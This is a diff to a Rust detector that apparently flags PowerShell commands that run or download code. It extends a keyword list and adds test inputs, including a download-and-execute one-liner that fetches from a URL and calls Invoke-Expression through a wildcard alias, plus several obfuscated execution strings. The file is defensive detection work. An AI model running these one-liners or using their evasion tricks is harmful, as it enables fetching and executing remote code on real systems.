@@ -9,8 +9,24 @@ use std::sync::LazyLock;
 use aho_corasick::packed;
 
 /// Names that run code or fetch it, in lower case. Members of types (`::`) are looked for beside them.
-const WORDS: [&str; 13] =
-    ["iex", "invoke", "powershell", "pwsh", "irm", "iwr", "icm", "curl", "wget", "start-", "cmd", "encodedcommand", "base64"];
+const WORDS: [&str; 15] = [
+    "iex",
+    "invoke",
+    "powershell",
+    "pwsh",
+    "irm",
+    "iwr",
+    "icm",
+    "curl",
+    "wget",
+    "start-",
+    "cmd",
+    "encodedcommand",
+    "base64",
+    // What runs may be found by a pattern: `… | & (gcm i*x)`.
+    "webclient",
+    "xmlhttp",
+];
 /// The longest of them, less one: what of a block is looked at again with the next.
 const OVERLAP: usize = 13;
 /// Bytes that are put into lower case at once: the searcher compares bytes as they are, and is fast for that.
@@ -82,6 +98,7 @@ mod tests {
             "[Reflection.Assembly]::Load([Convert]::FromBase64String('AAAA'))",
             "powershell.exe -File a.ps1",
             "gal i?x | % { & $_ a }",
+            "(New-Object Net.WebClient).DownloadString('http://h/a') | & (gcm i*x)",
             ". ( 'i' +'ex')",
             "P\0o\0w\0e\0r\0",
         ] {
